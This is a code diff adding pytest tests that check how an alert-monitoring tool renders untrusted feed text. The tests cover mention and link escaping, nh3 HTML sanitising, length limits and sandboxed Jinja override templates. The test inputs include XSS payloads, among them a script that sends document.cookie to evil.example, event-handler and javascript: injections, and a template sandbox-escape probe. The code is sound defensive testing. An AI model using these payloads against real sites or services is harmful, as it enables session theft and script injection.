@@ -6,17 +6,23 @@ from __future__ import annotations
 import re
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta, timezone
+from pathlib import Path
 
 import pytest
 
+from monitor.errors import ConfigError
 from monitor.render import (
+    PARTS,
     Alert,
     Digest,
     Limits,
     OtherSource,
+    check_templates,
     render,
     render_digest,
+    templates_for,
 )
+from monitor.settings import ChannelTemplates, load_config
 
 T0 = datetime(2026, 11, 28, 6, 0, tzinfo=UTC)
 
@@ -123,7 +129,9 @@ def test_untrusted_text_is_flattened_and_escaped() -> None:
         evidence=['escalation: "<img src=x onerror=alert(1)>" (summary)'],
     )
     message = render(alert)
-    assert "Shelling resumes *now* [click]\u200b(http://evil.example) a_b" in message.text  # link syntax broken
+    assert (
+        "Shelling resumes *now* [click]\u200b(http://evil.example) a_b" in message.text
+    )  # link syntax broken
     assert "Tanks & troops moved in" in message.text
     assert "alert(1)" not in message.text
     assert r"Shelling resumes \*now\* \[click\](http://evil.example) a\_b" in message.markdown
@@ -251,3 +259,311 @@ def test_digest_cut_drops_lowest_ranked_stories_and_keeps_links_whole() -> None:
     assert shown + int(omitted.group(1)) == 7
     for url in re.findall(r"https://news\.example/\S+", message.text):
         assert url.rstrip(">") in {alert.link for alert in DIGEST.alerts}
+
+
+# --- chat escaping ---------------------------------------------------------------------------------
+
+MENTIONS = [
+    "@everyone",
+    "@here",
+    "@channel",
+    "@room",
+    "<@123456789>",
+    "<@!123456789>",
+    "<@&987654321>",
+    "<!channel>",
+    "<!here>",
+    "<!everyone>",
+    "<#C024BE91L>",
+    "@alice:matrix.org",
+    "@durov",
+]
+
+
+@pytest.mark.parametrize("mention", MENTIONS)
+def test_feed_text_cannot_mention_anyone_in_text_markdown_or_subject(mention: str) -> None:
+    """A mention in a headline, summary or source title reaches no form intact (a zero-width space breaks
+    it), while the text still reads the same once that invisible character is removed."""
+    alert = replace(
+        ALERT,
+        headline=f"Shelling reported {mention} now",
+        summary=f"Residents told {mention} to shelter.",
+        sources=[OtherSource(f"Desk {mention}", f"Copy {mention}", "https://desk.example/1")],
+    )
+    message = render(alert)
+    for form in (message.subject, message.text, message.markdown):
+        assert mention not in form, form
+    if mention.startswith("<!"):  # feed HTML reduction already drops these as markup declarations
+        return
+    assert f"Shelling reported {mention} now" in message.text.replace("\u200b", "")
+    assert f"Residents told {mention} to shelter." in message.text.replace("\u200b", "")
+    assert f"Shelling reported {mention} now" in message.subject.replace("\u200b", "")
+
+
+@pytest.mark.parametrize(
+    "markup",
+    ["[click](https://evil.example)", "[click][1]", "<https://evil.example|click here>"],
+)
+def test_feed_text_cannot_add_a_link_in_the_text_form(markup: str) -> None:
+    """Link syntax a chat service would render (Markdown links, Slack <url|text>) is broken in the text form
+    and escaped in the Markdown form."""
+    message = render(replace(ALERT, headline=f"Read more {markup}"))
+    assert markup not in message.text and markup not in message.subject
+    assert markup not in message.markdown
+    if markup.startswith("<"):  # feed HTML reduction already drops <...> as a tag
+        assert "evil.example" not in message.text and "evil.example" not in message.markdown
+    else:
+        assert markup in message.text.replace("\u200b", "")  # reads the same
+        assert "\\[click\\]" in message.markdown
+
+
+def test_a_link_keeps_working_but_an_at_sign_in_its_path_cannot_mention() -> None:
+    """The alert link stays one clickable URL; an '@' in its path is percent-encoded in text and Markdown."""
+    message = render(replace(ALERT, link="https://news.example/@everyone/story?id=1"))
+    assert "https://news.example/%40everyone/story?id=1" in message.text
+    assert "<https://news.example/%40everyone/story?id=1>" in message.markdown
+    assert "@everyone" not in message.text and "@everyone" not in message.markdown
+
+
+# --- HTML form ------------------------------------------------------------------------------------
+
+HOSTILE_SUMMARY = (
+    "<p>Troops <b>advanced</b> near <a href='https://ok.example/map' onclick='steal()'>the river</a>.</p>"
+    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
+    "<style>body{display:none}</style>"
+    "<img src=x onerror=alert(1)>"
+    "<a href='javascript:alert(2)'>click me</a>"
+    "<iframe src='https://evil.example/frame'></iframe>"
+    "<svg onload=alert(3)></svg>"
+)
+
+
+def test_html_form_sanitises_the_feed_summary_with_nh3() -> None:
+    """The HTML body keeps the summary's safe inline markup (bold, http link) and loses scripts, styles,
+    event handlers, images, frames and javascript: links."""
+    html = render(replace(ALERT, summary=HOSTILE_SUMMARY)).html
+    assert "<b>advanced</b>" in html
+    assert '<a href="https://ok.example/map" rel="noopener noreferrer nofollow">the river</a>' in html
+    for bad in ("<script", "document.cookie", "<style", "display:none", "onerror", "onclick", "onload",
+                "javascript:", "<img", "<iframe", "<svg", "evil.example"):  # fmt: skip
+        assert bad not in html, bad
+    assert "click me" in html  # the text of a removed link stays, without the link
+
+
+def test_html_form_escapes_every_field() -> None:
+    """Feed text in the headline, outlet, evidence and source titles is HTML-escaped in the HTML body."""
+    alert = replace(
+        ALERT,
+        headline="Shelling <script>alert(1)</script> & more",
+        outlet="<b>Wire</b>",
+        evidence=['escalation: "<img src=x onerror=alert(1)>" (summary)'],
+        sources=[OtherSource("Desk", '<i>x</i> " onmouseover="y', 'https://desk.example/"onmouseover=x')],
+    )
+    html = render(alert).html
+    assert "<script" not in html and "onerror" not in html and "<i>" not in html
+    assert ">Shelling &amp; more</a>" in html  # script content dropped, & escaped
+    assert re.search(r"<[^>]*onmouseover", html) is None  # a quote cannot open an attribute
+    assert 'href="https://desk.example/' not in html  # a link with a quote in it is not a link
+    assert "<td>Wire</td>" in html  # tags reduced to text first
+
+
+def test_a_non_http_link_is_never_a_link_in_html() -> None:
+    """A javascript: alert link becomes neither an href nor a Markdown link; it is shown as text."""
+    message = render(replace(ALERT, link="javascript:alert(1)"))
+    assert 'href="javascript' not in message.html
+    assert "<javascript:" not in message.markdown
+
+
+# --- cuts -----------------------------------------------------------------------------------------
+
+LONG = replace(
+    ALERT,
+    summary="Residents described the night as the worst since the war began. " * 12,
+    evidence=[f'escalation: "shelling {i}" (summary)' for i in range(12)],
+    sources=[
+        OtherSource(f"Outlet {i}", f"Report number {i} on the shelling", f"https://o{i}.example/a")
+        for i in range(30)
+    ],
+)
+
+
+def test_a_long_alert_fits_the_limit_by_dropping_the_other_sources_first() -> None:
+    """Over the limit, the other-sources list goes first (counted), while summary and evidence stay."""
+    full = render(LONG)
+    assert len(full.text) > 2000
+    message = render(LONG, limit=Limits(body=1500))
+    assert len(message.text) <= 1500 and len(message.markdown) <= 1500
+    assert "Outlet 0" not in message.text and "Also reported by 30 other outlet(s)." in message.text
+    assert "worst since the war began" in message.text and '"shelling 11"' in message.text
+    assert LONG.link in message.text
+
+
+def test_then_the_summary_then_the_evidence_are_dropped() -> None:
+    """With less room the summary goes next, then evidence lines, and the headline and link stay whole."""
+    message = render(LONG, limit=Limits(body=800))
+    assert len(message.text) <= 800
+    assert "Outlet 0" not in message.text and "worst since the war began" not in message.text
+    assert ALERT.headline in message.text and LONG.link in message.text
+
+    smaller = render(LONG, limit=Limits(body=520))
+    assert len(smaller.text) <= 520
+    assert '"shelling 11"' not in smaller.text and "more (message size limit)" in smaller.text
+    assert ALERT.headline in smaller.text and LONG.link in smaller.text
+
+
+@pytest.mark.parametrize("limit", range(40, 700, 7))
+def test_no_cut_ever_falls_inside_the_link(limit: int) -> None:
+    """At every limit the bodies fit, and the link is either whole or entirely absent — never cut."""
+    message = render(LONG, limit=Limits(body=limit))
+    for body, link in ((message.text, LONG.link), (message.markdown, f"<{LONG.link}>")):
+        assert len(body) <= limit
+        assert link in body or "https://tass" not in body, body
+
+
+def test_a_service_without_a_title_gets_room_for_the_subject_in_its_body() -> None:
+    """When the service puts the subject into the body (no title field), subject plus body fit the limit."""
+    limit = Limits(body=900, title=None, title_in_body=True)
+    message = render(LONG, limit=limit)
+    assert len(message.subject) + 2 + len(message.text) <= 900
+    assert len(message.subject) + 3 + len(message.markdown) <= 900  # "# subject\n" for Markdown
+
+
+def test_a_short_title_limit_shortens_the_subject() -> None:
+    """A service with a short title limit gets a subject cut with an ellipsis to that length."""
+    subject = render(ALERT, limit=Limits(title=40)).subject
+    assert len(subject) <= 40 and subject.endswith("…") and subject.startswith("[ESCALATION] Nagorno")
+
+
+# --- override templates ---------------------------------------------------------------------------
+
+
+def write(path: Path, text: str) -> Path:
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def test_an_override_replaces_only_its_part_and_is_escaped_like_ours(tmp_path: Path) -> None:
+    """A channel's text and html overrides are used; the other parts stay built-in; feed text in them is
+    neutralised (text) and escaped (HTML) without the template doing anything."""
+    text = write(tmp_path / "t.j2", "ALERT {{ severity|upper }}: {{ headline }} <{{ link }}>\n")
+    html = write(tmp_path / "h.j2", "<p>{{ headline }}</p><div>{{ summary }}</div>\n")
+    templates = templates_for({"text": text, "html": html})
+    alert = replace(ALERT, headline="@everyone <script>x</script>Shelling", summary=HOSTILE_SUMMARY)
+    message = render(alert, templates=templates)
+    assert message.text == f"ALERT HIGH: @\u200beveryone Shelling <{ALERT.link}>\n"
+    assert message.html.startswith("<p>@everyone Shelling</p><div>Troops <b>advanced</b>")
+    assert "<script" not in message.html and "onerror" not in message.html
+    assert message.subject == render(alert).subject and message.markdown == render(alert).markdown
+    assert message.problem is None
+
+
+def test_digest_override(tmp_path: Path) -> None:
+    """A digest_text override sees the digest fields (groups, stories, counts)."""
+    text = write(
+        tmp_path / "d.j2",
+        "{% for g in groups %}{{ g.watch }}:{% for s in g.stories %} {{ s.severity }}/{{ s.source_count }}"
+        "{% endfor %};{% endfor %} {{ counts_line }}\n",
+    )
+    message = render_digest(DIGEST, templates=templates_for({"digest_text": text}))
+    assert message.text == (
+        "karabakh: critical/1 critical/1 high/3;ukraine: critical/1 high/1;sudan: medium/1 low/1;"
+        " 3 critical, 2 high, 1 medium, 1 low\n"
+    )
+
+
+def test_override_problems_name_the_template_file_and_line(tmp_path: Path) -> None:
+    """Missing files, syntax errors, misspelt fields (with a suggestion) and sandbox violations are each
+    reported with the template file and line."""
+    syntax = write(tmp_path / "syntax.j2", "line one\n{% for s in sources %}\n{{ s.outlet }\n")
+    typo = write(tmp_path / "typo.j2", "{{ headline }}\n{% if update %}\n{{ hedline }}\n{% endif %}\n")
+    unsafe = write(tmp_path / "unsafe.j2", "{{ headline }}\n{{ headline.__class__.__mro__ }}\n")
+    problems = {
+        p.part: str(p)
+        for p in check_templates(
+            {"subject": tmp_path / "missing.j2", "text": syntax, "markdown": typo, "html": unsafe}
+        )
+    }
+    assert problems["subject"] == f"{tmp_path / 'missing.j2'}: no such template file"
+    assert problems["text"].startswith(f"{syntax}:3: Jinja syntax error")
+    assert problems["markdown"].startswith(f"{typo}:3: 'hedline' is undefined; did you mean 'headline'?")
+    assert problems["html"].startswith(f"{unsafe}:2: SecurityError")
+    assert check_templates({"text": write(tmp_path / "ok.j2", "{{ headline }}\n")}) == []
+
+
+def test_a_template_broken_after_the_check_falls_back_to_the_built_in_one(tmp_path: Path) -> None:
+    """A template edited into an error after check-config does not stop delivery: the built-in template is
+    used and the message says why."""
+    path = write(tmp_path / "t.j2", "{{ headline }}\n")
+    assert render(ALERT, templates=templates_for({"text": path})).text == ALERT.headline + "\n"
+    write(path, "{{ headline }} {{ nope }}\n")
+    message = render(ALERT, templates=templates_for({"text": path}))
+    assert message.text == render(ALERT).text
+    assert message.problem and "'nope' is undefined" in message.problem and str(path) in message.problem
+    write(path, "{% if %}\n")
+    message = render(ALERT, templates=templates_for({"text": path}))
+    assert message.text == render(ALERT).text and message.problem and f"{path}:1" in message.problem
+
+
+def test_config_errors_name_the_config_line_and_the_template_line(tmp_path: Path) -> None:
+    """check-config reports a bad override at the config file's line of the key and the template's line,
+    with how to fix it; relative paths are taken from the config file's folder."""
+    (tmp_path / "tpl").mkdir()
+    write(tmp_path / "tpl" / "subject.j2", "[{{ tag }}] {{ headline }}\n")
+    write(tmp_path / "tpl" / "text.j2", "{{ headline }}\n\n{{ evidense|join(', ') }}\n")
+    config = write(
+        tmp_path / "monitor.yaml",
+        "channels:\n"
+        "  ops-email:\n"
+        "    url: json://127.0.0.1:9/hook\n"
+        "    templates:\n"
+        "      subject: tpl/subject.j2\n"
+        "      text: tpl/text.j2\n"
+        "      html: tpl/nowhere.j2\n"
+        "rules: []\n",
+    )
+    with pytest.raises(ConfigError) as info:
+        load_config(config)
+    problems = info.value.problems
+    text_problem = next(p for p in problems if ".templates.text:" in p)
+    assert text_problem.startswith(
+        f"{config}:6: channels.ops-email.templates.text: {tmp_path / 'tpl' / 'text.j2'}:3:"
+    )
+    assert (
+        "'evidense' is undefined; did you mean 'evidence'?" in text_problem
+        and "fix the template" in text_problem
+    )
+    html_problem = next(p for p in problems if ".templates.html:" in p)
+    assert html_problem.startswith(
+        f"{config}:7: channels.ops-email.templates.html: {tmp_path / 'tpl' / 'nowhere.j2'}:"
+    )
+    assert "no such template file" in html_problem and "relative to the config file" in html_problem
+    assert not any(".templates.subject" in p for p in problems)
+    assert len(problems) == 2, problems
+
+    write(config, config.read_text(encoding="utf-8").replace("      text:", "      digest_txt:"))
+    with pytest.raises(ConfigError) as info:
+        load_config(config)
+    expected = (
+        f"{config}:6: channels.ops-email.templates.digest_txt: unknown key; did you mean 'digest_text'?"
+    )
+    assert expected in info.value.problems
+
+
+def test_a_valid_override_loads_and_its_path_is_resolved_from_the_config_folder(tmp_path: Path) -> None:
+    """A config whose override is fine loads, and the channel's paths point into the config's folder."""
+    (tmp_path / "tpl").mkdir()
+    write(tmp_path / "tpl" / "subject.j2", "[{{ tag }}] {{ headline }}\n")
+    config = load_config(
+        write(
+            tmp_path / "monitor.yaml",
+            "channels:\n  ops:\n    url: json://127.0.0.1:9/hook\n    templates: {subject: tpl/subject.j2}\nrules: []\n",
+        )
+    )
+    templates = config.settings.channels["ops"].templates
+    assert templates is not None
+    assert templates.paths(config.path.parent) == {"subject": tmp_path / "tpl" / "subject.j2"}
+
+
+def test_the_config_keys_are_the_template_parts() -> None:
+    """Every template part can be overridden from the config, and nothing else."""
+    assert set(ChannelTemplates.model_fields) == set(PARTS)
